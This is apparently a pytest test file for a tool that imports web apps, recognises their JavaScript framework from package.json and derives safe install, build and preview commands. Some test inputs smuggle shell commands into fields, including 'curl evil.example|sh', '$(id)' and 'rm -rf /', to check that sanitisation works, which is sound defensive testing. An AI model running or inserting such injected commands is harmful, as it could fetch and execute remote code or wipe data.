"""What an app is made with, what is done with what is none of the five, and how each is run."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agents.errors import ImportDenied
from agents.imports.detection import Verdict, apps_within, recognise
from agents.imports.fitting import fitted
from agents.imports.manifest import read_manifest
from agents.templates import get_template
from agents.types import Framework

BUILD = {"build": "x", "lint": "eslint ."}


def manifest(*packages: str, scripts: dict[str, str] | None = None, **more: object) -> bytes:
    """A `package.json`; a package is `name` or `name@version`."""
    wanted = {}
    for package in packages:
        name, _, version = package[1:].partition("@")
        wanted[package[0] + name] = version or "*"
    listed = BUILD if scripts is None else scripts
    return json.dumps({"name": "x", "scripts": listed, "dependencies": wanted, **more}).encode()


def verdict(package_json: bytes, **files: bytes) -> Verdict:
    app = {"package.json": package_json, **files}
    return recognise(app, {"package.json": package_json}, where="acme/shop")


def denied(files: dict[str, bytes]) -> ImportDenied:
    manifests = {p: c for p, c in files.items() if p.rpartition("/")[2] == "package.json"}
    with pytest.raises(ImportDenied) as refused:
        recognise(files, manifests, where="acme/shop@main")
    return refused.value


@pytest.mark.parametrize(
    ("packages", "framework", "title"),
    [
        (["next@15.1.0", "react@19"], Framework.NEXTJS, "Next.js 15.1.0"),
        (["next@latest", "react"], Framework.NEXTJS, "Next.js"),
        (["next@^14", "preact"], Framework.NEXTJS, "Next.js 14"),
        (["react@^18.2.0", "vite@^5"], Framework.REACT, "React 18.2.0 with Vite"),
        (["react@^18", "react-scripts@5.0.1"], Framework.REACT, "React 18 with Create React App"),
        (["react@^18", "vite@5", "express"], Framework.REACT, "React 18 with Vite"),
        (["react@^18", "vite@5", "preact"], Framework.REACT, "React 18 with Vite"),
        (["vue@^3", "vite@5", "vitepress"], Framework.VUE, "Vue 3 with Vite"),
        (["svelte@5", "vite@6", "lit"], Framework.SVELTE, "Svelte 5 with Vite"),
        (["vue@^3.4.0", "vite@^5"], Framework.VUE, "Vue 3.4.0 with Vite"),
        (["@angular/core@^17.0.0"], Framework.ANGULAR, "Angular 17.0.0"),
        (["svelte@^5", "vite@6"], Framework.SVELTE, "Svelte 5 with Vite"),
        (
            ["svelte@5", "@sveltejs/kit@^2.5.0", "vite@6"],
            Framework.SVELTE,
            "SvelteKit 2.5.0 with Vite",
        ),
    ],
)
def test_an_app_of_the_five_is_recognised(
    packages: list[str], framework: Framework, title: str
) -> None:
    assert verdict(manifest(*packages)) == Verdict(framework, title)


@pytest.mark.parametrize(
    ("files", "said"),
    [
        ({}, "There is nothing in it."),
        ({"package.json": manifest("nuxt@3", "vue@3", "vite")}, "It is made with Nuxt."),
        ({"package.json": manifest("astro", "react", "vite")}, "It is made with Astro."),
        ({"package.json": manifest("@remix-run/react", "react", "vite")}, "made with Remix."),
        ({"package.json": manifest("expo", "react")}, "It is made with Expo."),
        ({"package.json": manifest("@vue/cli-service", "vue")}, "It is made with Vue CLI."),
        ({"package.json": manifest("vitepress", "vue")}, "It is made with VitePress."),
        ({"package.json": manifest("lit", "vite")}, "It is made with Lit."),
        ({"package.json": manifest("express")}, "It is made with Express."),
        ({"package.json": manifest("react", "webpack")}, "It uses React, but without Vite"),
        ({"package.json": manifest("vue")}, "It uses Vue, but without Vite"),
        ({"package.json": manifest("lodash")}, "It is a package of JavaScript"),
        ({"package.json": b"{"}, "Its package.json cannot be read."),
        ({"package.json": b"[" * 100_000}, "Its package.json cannot be read."),
        ({"package.json": b"[]"}, "Its package.json cannot be read."),
        ({"package.json": b"\xff\xfe"}, "Its package.json cannot be read."),
        ({"main.py": b"", "a.py": b"", "x.rs": b""}, "no package.json and is mostly Python."),
        ({"index.html": b"<h1>Hi</h1>"}, "no package.json and is mostly plain HTML."),
        ({"LICENSE": b""}, "It has no package.json."),
    ],
)
def test_what_is_none_of_the_five_is_named_with_what_can_be_done(
    files: dict[str, bytes], said: str
) -> None:
    error = denied(files)
    assert said in str(error)
    assert "Next.js, React, Vue, Angular and Svelte" in str(error)
    assert error.hint == "Tell me in words what it does, and I build it anew with one of those."


@pytest.mark.parametrize(
    "root",
    [
        {"package.json": manifest(workspaces=["apps/*"])},
        {"package.json": manifest("react", "vite", workspaces=["apps/*"])},
        {"package.json": manifest("turbo"), "turbo.json": b"{}"},
        {"package.json": manifest("react", "vite"), "pnpm-workspace.yaml": b"packages:\n- a\n"},
        {"README.md": b""},
    ],
)
def test_a_repository_of_several_apps_names_their_folders(root: dict[str, bytes]) -> None:
    apps = {
        "apps/admin/package.json": manifest("react@19", "vite"),
        "apps/web/package.json": manifest("next@15"),
        "packages/ui/package.json": manifest("lodash"),
        "a/b/c/d/package.json": manifest("next"),
    }
    error = denied({**root, **apps})
    assert "apps/admin (React 19 with Vite) and apps/web (Next.js 15)." in str(error)
    assert error.hint == "Import one of them: acme/shop@main/apps/admin"


@pytest.mark.parametrize("source", ["index.html", "src/main.tsx", "app/page.tsx"])
def test_a_workspaces_root_that_is_an_app_itself_is_the_app_and_the_others_are_told(
    source: str,
) -> None:
    files = {
        "package.json": manifest("react@19", "vite", workspaces=["apps/*"]),
        "apps/web/package.json": manifest("next"),
    }
    found = recognise({**files, source: b""}, files, where="acme/shop")
    assert found.title == "React 19 with Vite"
    assert "other apps in its folders" in found.warnings[0]


def test_pnpms_settings_alone_make_no_workspace() -> None:
    files = {
        "package.json": manifest("react@19", "vite"),
        "apps/web/package.json": manifest("next"),
    }
    settings = {**files, "pnpm-workspace.yaml": b"nodeLinker: hoisted\n"}
    assert recognise(settings, files, where="acme/shop").warnings == ()


def test_an_app_with_examples_beside_it_is_the_app() -> None:
    files = {
        "package.json": manifest("next@15"),
        "examples/a/package.json": manifest("react", "vite"),
    }
    assert recognise(files, files, where="acme/shop").framework is Framework.NEXTJS


@pytest.mark.parametrize(
    ("package_json", "files", "said"),
    [
        (manifest("next", "ui@workspace:*"), {}, "other packages of its repository (ui)"),
        (manifest("next", scripts={"build": "pnpm css && next build"}), {}, "Its build calls pnpm"),
        (manifest("next", scripts={}), {}, "no build script"),
        (manifest("next"), {"app/layout.tsx": b'from "next/font/google"'}, "fonts from Google"),
        (manifest("next"), {".gitmodules": b"[submodule]"}, "submodules"),
        (manifest("next"), {"bun.lock": b""}, "bun lock file is not used"),
        (manifest("next"), {"yarn.lock": b"__metadata:\n  version: 8"}, "Yarn 2+ is not used"),
        (
            manifest("next"),
            {"a.png": b"version https://git-lfs.github.com/spec/v1\noid"},
            "Git LFS are only placeholders",
        ),
    ],
)
def test_what_may_go_wrong_is_warned_of(
    package_json: bytes, files: dict[str, bytes], said: str
) -> None:
    [warning] = verdict(package_json, **files).warnings
    assert said in warning


@given(
    st.binary(max_size=200)
    | st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(max_size=5),
        lambda inner: (
            st.lists(inner, max_size=3)
            | st.dictionaries(
                st.sampled_from(["name", "scripts", "dependencies", "next", "workspaces", "build"]),
                inner,
                max_size=4,
            )
        ),
        max_leaves=12,
    ).map(lambda value: json.dumps(value).encode())
)
def test_any_manifest_is_read_and_fits_some_commands(content: bytes) -> None:
    own = read_manifest(content)
    assert all(isinstance(text, str) for text in [*own.packages.values(), *own.scripts.values()])
    apps_within({"a/package.json": content})
    for framework in Framework:
        app = fitted(get_template(framework), content, lambda _: False)
        assert app.install
        assert app.build
        assert app.preview


# --- how it is run -----------------------------------------------------------------------


@pytest.mark.parametrize("framework", Framework)
def test_an_app_that_came_of_a_template_is_run_as_the_template_says(framework: Framework) -> None:
    template = get_template(framework)
    ours = json.loads(template.files["package.json"])
    ours["dependencies"]["zod"] = "4.0.0"
    ours["scripts"]["test"] = "vitest"
    for content in (None, template.files["package.json"], json.dumps(ours).encode()):
        assert fitted(template, content, lambda _: True) is template


@pytest.mark.parametrize(
    ("framework", "package_json", "build", "preview"),
    [
        (Framework.NEXTJS, manifest("next"), "npm run build", "next start -H 127.0.0.1 -p 3000"),
        (
            Framework.NEXTJS,
            manifest("next", scripts={}),
            "node_modules/.bin/next build",
            "next start",
        ),
        (
            Framework.REACT,
            manifest("react", "vite"),
            "npm run build",
            "vite preview --host 127.0.0.1",
        ),
        (
            Framework.VUE,
            manifest("vue", "vite", scripts={}),
            "node_modules/.bin/vite build",
            "vite preview",
        ),
        (
            Framework.REACT,
            manifest("react", "react-scripts", scripts={}),
            "node_modules/.bin/react-scripts build",
            "react-scripts start",
        ),
        (
            Framework.ANGULAR,
            manifest("@angular/core"),
            "npm run build",
            "ng serve --host 127.0.0.1",
        ),
        (
            Framework.ANGULAR,
            manifest("@angular/core", scripts={}),
            "node_modules/.bin/ng build",
            "ng serve",
        ),
    ],
)
def test_an_imported_app_is_run_by_its_own_scripts_or_its_frameworks_commands(
    framework: Framework, package_json: bytes, build: str, preview: str
) -> None:
    app = fitted(get_template(framework), package_json, lambda _: False)
    assert app.build == build
    assert preview in app.preview
    assert str(app.port) in app.preview


@pytest.mark.parametrize(
    ("named", "lock", "install"),
    [
        ("", "package-lock.json", "npm install"),
        ("", "yarn.lock", "npm install"),
        ("", "bun.lock", "npm install"),
        ("", "", "npm install"),
        ("", "pnpm-lock.yaml", "pnpm@10 install"),
        ("pnpm@9.12.3+sha512.abc", "pnpm-lock.yaml", "pnpm@9.12.3 install"),
        ("pnpm@9", "", "pnpm@9 install"),
        ("pnpm@9; curl evil.example|sh", "pnpm-lock.yaml", "pnpm@9 install"),
        ("pnpm@$(id)", "pnpm-lock.yaml", "pnpm@10 install"),
        ("pnpm@9", "package-lock.json", "npm install"),
    ],
)
def test_the_package_manager_is_that_of_the_lock_file_and_takes_nothing_else_from_a_stranger(
    named: str, lock: str, install: str
) -> None:
    package_json = manifest("next", packageManager=named)
    app = fitted(get_template(Framework.NEXTJS), package_json, lambda path: path == lock)
    assert install in app.install
    assert ("--ignore-pnpmfile" in app.install) is ("pnpm" in install)
    assert "evil" not in app.install
    assert "$(" not in app.install


def test_the_model_is_told_what_the_app_has_not_what_the_template_would() -> None:
    package_json = manifest("next@14.2.3", "react@18.3.1", "tailwindcss@3.4.0", 'x"; rm -rf /')
    app = fitted(get_template(Framework.NEXTJS), package_json, lambda path: path == "app/page.tsx")
    assert app.title == "Next.js 14.2.3"
    assert app.stack == "Next.js 14.2.3, with next 14.2.3, react 18.3.1, tailwindcss 3.4.0"
    assert app.entry == ("app/page.tsx",)
    assert len(app.ui) == 1
    assert "imported" in app.ui[0]


def test_where_pnpm_installs_the_model_is_told_to_leave_npm_alone() -> None:
    app = fitted(
        get_template(Framework.VUE), manifest("vue", "vite"), lambda p: p == "pnpm-lock.yaml"
    )
    assert "never by npm" in app.ui[-1]
